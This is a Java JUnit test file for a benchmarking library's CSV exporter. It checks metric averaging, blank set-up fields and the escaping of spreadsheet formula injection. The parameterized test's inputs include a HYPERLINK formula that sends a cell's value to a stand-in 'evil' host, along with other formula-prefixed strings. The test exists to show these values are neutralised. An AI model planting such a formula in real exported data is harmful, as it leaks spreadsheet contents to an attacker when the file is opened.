package threadmark.pages.chart;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import threadmark.Altered;
import threadmark.jvm.Outcome;
import threadmark.study.answer.CountedTrials;
import threadmark.study.experiment.Examples;
import threadmark.study.experiment.Experiment;
import threadmark.study.experiment.Metric;
import threadmark.study.record.Measurement;
import threadmark.study.record.Trial;
import threadmark.text.Escaped;
import threadmark.verdict.Samples;

class TrialsCsvTest {

  @Test
  void ofAMetricThatWasMeasuredTwiceTheFirstCounts() {
    String text =
        TrialsCsv.text(
            CountedTrials.of(
                Examples.run(
                    Examples.measured("0001", "b001", "virtual", 1.0)
                        .with(
                            List.of(
                                new Measurement(Metric.WALL, List.of(1.0, 2.0)),
                                new Measurement(Metric.WALL, List.of(9.0)))))));
    assertThat(TrialsCsv.rows(text).getFirst()).containsEntry(Metric.WALL.label(), "1.5");
  }

  @Test
  void whatHoldsTheSetUpOfATrialIsNoFigure() {
    Trial trial =
        Examples.measured("0001", "b001", "virtual", 1.0)
            .with(
                List.of(
                    new Measurement(Metric.WALL, List.of(1.0)),
                    new Measurement(Metric.CPU, List.of(4.0))));
    Experiment since = Altered.of(Examples.experiment(), "measuring", List.of("0.2.1"));

    String text = TrialsCsv.text(CountedTrials.of(Examples.run(trial), List.of(since)));

    assertThat(TrialsCsv.rows(text).getFirst())
        .containsEntry(Metric.WALL.label(), "1")
        .containsEntry(Metric.CPU.label(), "");
  }

  /** However it is written, a field comes back as it was, and no spreadsheet computes it. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://evil/?\"&A1)",
        "+1+2",
        "-1+2",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "'quoted",
        "a\nb",
        "a\rb",
        "a,\"b\"",
        "-5",
        "1.5E-7"
      })
  void aFieldIsRecordedAndIsNoFormula(String reason) {
    Trial trial =
        Examples.trial(
            "0001", "b001", 1, "virtual", Outcome.FAILED, Optional.of(reason), Samples.quiet());
    String text =
        TrialsCsv.text(
            CountedTrials.of(Examples.run(trial, Examples.measured("0002", "b", "virtual", 1.0))));
    assertThat(TrialsCsv.rows(text)).hasSize(2);
    assertThat(TrialsCsv.rows(text).getFirst()).containsEntry("reason", Escaped.plain(reason));
    assertThat(text.replace(",-5\n", "\n")).doesNotContainPattern("(^|,)\"?[=+@\t\r-]");
  }
}
